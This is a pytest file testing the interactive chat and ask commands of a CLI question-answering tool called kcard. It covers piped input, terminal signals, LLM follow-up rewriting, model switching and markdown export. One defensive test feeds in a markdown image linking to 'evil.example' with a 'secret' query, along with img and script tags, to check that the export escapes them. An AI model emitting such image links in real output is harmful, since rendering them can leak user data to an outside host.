"""kcard chat: questions one after the other, on a terminal and from a pipe; an error ends nothing."""

import io
import json
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import kcard
from kcard.cli.chat import ChatTurn, as_markdown
from kcard.types import Answer, Citation, Decision, Passage, Source
from tests.command import Done, Kcard
from tests.openai_script import ScriptedServer
from tests.terminal import Terminal

Serve = Callable[..., ScriptedServer]
TEXT = "Triton was discovered by William Lassell in 1846.\n\nNereid was found by Gerard Kuiper in 1949.\n"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home with a card about the moons of Neptune."""
    home = tmp_path_factory.mktemp("home")
    (home / "corpus").mkdir()
    (home / "corpus" / "neptune.txt").write_text(TEXT, encoding="utf-8")
    card = kcard.train(
        home / "corpus", kind="retrieval", name="neptune", description="moons", output=home / "d"
    )
    kcard.Hub(home).publish(card.folder)
    return home


@pytest.fixture
def piped(home: Path, kcard: Kcard, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Done]:
    """Runs a command that reads these lines from a pipe."""
    monkeypatch.setenv("KCARD_HOME", str(home))

    def run(*arguments: str, lines: str) -> Done:
        monkeypatch.setattr(sys, "stdin", io.StringIO(lines))
        return kcard(*arguments)

    return run


def test_lines_of_a_pipe_are_questions_and_commands_and_an_error_ends_nothing(
    piped: Callable[..., Done],
) -> None:
    lines = ["/trace", "/cards", "Who discovered Triton?", "/trace", "/mode bottom-up", "/mode up", "/cards nobody",
             "/nonsense", "/mode", "Who found Nereid?", "And who discovered it?",
             "help", "exit", "Who discovered Triton?"]  # fmt: skip
    done = piped("chat", lines="\n".join(lines))
    assert done.code == 0
    assert [text for text in ("William Lassell\n", "Gerard Kuiper\n") if text in done.out] != []
    assert done.out.count("William Lassell\n") == 1, "nothing is read after exit"
    assert done.out.startswith("neptune  moons\n")
    assert "kept neptune" in done.out
    assert done.out.count("mode: bottom-up\n") == 2
    assert "/cards [NAME,... | all]" in done.out
    assert done.err.count('name what "it" stands for') == 1
    errors = [line for line in done.err.splitlines() if line.startswith("kcard: ")]
    assert errors == [
        "kcard: there is no answer yet: ask a question first",
        "kcard: unknown mode 'up': choose one of top-down, bottom-up, hybrid, direct",
        "kcard: unknown card 'nobody': `kcard cards list` shows all cards",
        "kcard: unknown command /nonsense: /help lists them",
    ]


@pytest.mark.parametrize("question", [[], ["-"]])
def test_a_question_can_be_piped_to_ask(piped: Callable[..., Done], question: list[str]) -> None:
    done = piped("ask", *question, lines="Who discovered Triton?\n")
    assert done.out.startswith("William Lassell\n")
    assert piped("ask", *question, lines="").code == 2


@pytest.mark.parametrize("command", [pytest.param("ask", marks=pytest.mark.slow), "chat"])
def test_on_a_terminal_ctrl_c_leaves_nothing_behind_and_ctrl_d_leaves(home: Path, command: str) -> None:
    with Terminal(home, command) as terminal:
        terminal.wait_for(r"LLM: the embedded reader")
        terminal.wait_for(r"1 card: neptune")
        terminal.wait_for(r"\? ")
        terminal.send("Who discovered Tri")
        terminal.wait_for("Who discovered Tri")
        time.sleep(0.3)  # between the prompt and its wait for keys, Python's readline misses a signal
        terminal.send("\x03")
        terminal.wait_for("Ctrl-D leaves")
        terminal.wait_for(r"\? ")
        terminal.send("Who discovered Triton?\r")
        terminal.wait_for("William Lassell")
        terminal.wait_for(r"\? ")
        terminal.send("\x04")
        assert terminal.process.wait(30) == 0
    history = home / "history"
    assert "Who discovered Triton?" in history.read_text(encoding="utf-8")
    assert history.stat().st_mode & 0o777 == 0o600


def test_a_follow_up_is_rewritten_by_the_llm_shown_and_logged(
    piped: Callable[..., Done], serve: Serve
) -> None:
    server = serve(
        {"text": "Triton was discovered by William Lassell.", "usage": [50, 8]},
        {"text": '"When did William Lassell discover Triton?"', "usage": [40, 9]},
        {"text": "Triton was discovered in 1846.", "usage": [50, 8]},
        {"text": "Nereid was found by Gerard Kuiper.", "usage": [50, 8]},
        {"text": "Nereid was found in 1949.", "usage": [50, 8]},
    )
    lines = ["Who discovered Triton?", "And when did he do that?", "/trace",
             "Who was the finder of Nereid?", "/new", "When was it found?"]  # fmt: skip
    done = piped("chat", "--llm", "openai:m", "--llm-url", server.url, lines="\n".join(lines))
    prompts = [request["body"]["messages"][-1]["content"] for request in server.requests]
    assert prompts[1].startswith(
        "Question: Who discovered Triton?\nAnswer: Triton was discovered by William Lassell.\n\n"
        "Next question: And when did he do that?\n\nRewrite"
    )
    assert prompts[2].endswith("Question: When did William Lassell discover Triton?")
    assert done.err.count("asked as: ") == 1
    assert "asked as: When did William Lassell discover Triton?\n" in done.err
    assert "2 LLM calls · 90 + 17 tokens" in done.out
    assert prompts[3].endswith("Question: Who was the finder of Nereid?"), "it stands alone"
    assert prompts[4].endswith("Question: When was it found?"), (
        "nothing was said before in a new conversation"
    )
    assert 'each question is answered by itself: name what "it" stands for' in done.err
    (row,) = [row for row in json.loads(piped("log", "--json", lines="").out) if "typed" in row]
    assert (row["question"], row["typed"]) == (
        "When did William Lassell discover Triton?",
        "And when did he do that?",
    )
    assert (row["llm"], row["command"]) == ("openai:m", "chat")


def test_an_llm_that_answers_instead_of_rewriting_changes_no_question(
    piped: Callable[..., Done], serve: Serve
) -> None:
    replies = ["Triton was discovered by William Lassell.", "He discovered it in 1846.", "I don't know."]
    server = serve(*({"text": text} for text in replies))
    lines = "Who discovered Triton?\nWhen did he discover it?\n"
    done = piped("chat", "--llm", "openai:m", "--llm-url", server.url, lines=lines)
    assert server.requests[2]["body"]["messages"][-1]["content"].endswith("When did he discover it?")
    assert "asked as" not in done.err
    assert "name what" in done.err


def test_the_llm_is_switched_and_one_that_can_not_be_used_changes_nothing(
    piped: Callable[..., Done], serve: Serve
) -> None:
    server = serve({"text": "William Lassell discovered Triton."})
    lines = ["/model", "/model openai:m", "Who discovered Triton?", "/model nobody", "/model reader",
             "Who discovered Triton?"]  # fmt: skip
    done = piped("chat", "--llm-url", server.url, lines="\n".join(lines))
    assert "on this computer: reader (/model NAME)" in done.out
    assert f"LLM: m at {server.url}" in done.out
    assert "William Lassell discovered Triton.\n" in done.out
    assert "kcard: this computer has no LLM 'nobody'" in done.err
    assert "\nWilliam Lassell\n" in done.out
    assert len(server.requests) == 1


def test_a_conversation_is_saved_as_markdown_and_no_other_file_is_overwritten(
    piped: Callable[..., Done], tmp_path: Path
) -> None:
    (tmp_path / "mine.md").write_text("mine", encoding="utf-8")
    target = tmp_path / "chat.md"
    lines = [f"/save {target}", "Who discovered Triton?", "/save", f"/save {tmp_path / 'mine.md'}",
             f"/save {tmp_path / 'no' / 'folder.md'}", f"/save {target}", "Who found Nereid?",
             f"/save {target}"]  # fmt: skip
    done = piped("chat", lines="\n".join(lines))
    assert [line for line in done.err.splitlines() if line.startswith("kcard: ")] == [
        "kcard: there is no answer yet: ask a question first",
        "kcard: name a file: /save chat.md",
        f"kcard: {tmp_path / 'mine.md'} exists: name another file",
        f"kcard: {tmp_path / 'no' / 'folder.md'} can't be written: No such file or directory",
    ]
    assert f"2 answers in {target}" in done.out
    text = target.read_text(encoding="utf-8")
    assert "## Who discovered Triton?\n\nWilliam Lassell\n\n- " in text
    assert "neptune.txt:1" in text
    assert "LLM: embedded*" in text
    assert (tmp_path / "mine.md").read_text(encoding="utf-8") == "mine"


def test_a_saved_conversation_loads_no_picture_and_shows_what_others_wrote_as_text() -> None:
    text = "![x](http://evil.example/?q=secret) <img src=x> # Heading"
    passage = Passage("evil", text, kept=True, source=Source(text, "a_b.md", 1))
    answer = Answer(
        "Who?",
        "See ![x](http://evil.example) and <script>1 < 2</script>\n- a list",
        "top-down",
        Decision("always", 0.0, fired=True),
        passages=(passage,),
        citations=(Citation("See", 0, 0.9, text, 1),),
    )
    saved = as_markdown([ChatTurn("<b>Who?</b>", answer, "local:x")])
    assert "\n## \\<b\\>Who?\\</b\\>\n\nAsked as: Who?\n" in saved
    assert "See !\\[" not in saved
    assert "See \\![x](http://evil.example) and \\<script>1 < 2\\</script>\n- a list" in saved
    assert '- "\\!\\[x\\](http://evil.example/?q=secret) \\<img src=x\\> \\# Heading"' in saved
    assert "a\\_b.md:1" in saved


def test_the_time_to_the_first_word_of_a_streamed_answer_is_shown(
    piped: Callable[..., Done], serve: Serve
) -> None:
    server = serve({"pieces": ["William ", "Lassell."], "usage": [20, 4]})
    done = piped(
        "chat", "--llm", "openai:m", "--llm-url", server.url, "--mode", "direct", lines="Who found it?"
    )
    assert done.out.startswith("William Lassell.\n")
    assert "first word after 0." in done.err


def test_after_an_answer_was_stopped_the_chat_goes_on(home: Path, serve: Serve) -> None:
    late: dict[str, Any] = {"text": "Late.", "delay": 30}
    server = serve(late, {"text": "Triton was discovered by William Lassell."})
    with Terminal(home, "chat", "--llm", "openai:m", "--llm-url", server.url, term="xterm") as terminal:
        terminal.wait_for(r"\? ")
        terminal.send("Who discovered Triton?\r")
        terminal.wait_for("answering")
        while not server.requests:
            time.sleep(0.01)
        terminal.send("\x03")
        terminal.wait_for("stopped")
        terminal.wait_for(r"\? ")
        terminal.send("Who discovered Triton?\r")
        terminal.wait_for("Triton was discovered by William Lassell.")
        terminal.wait_for(r"\? ")
        terminal.send("\x04")
        assert terminal.process.wait(30) == 0
        assert [line for line in terminal.lines() if "answering" in line] == []
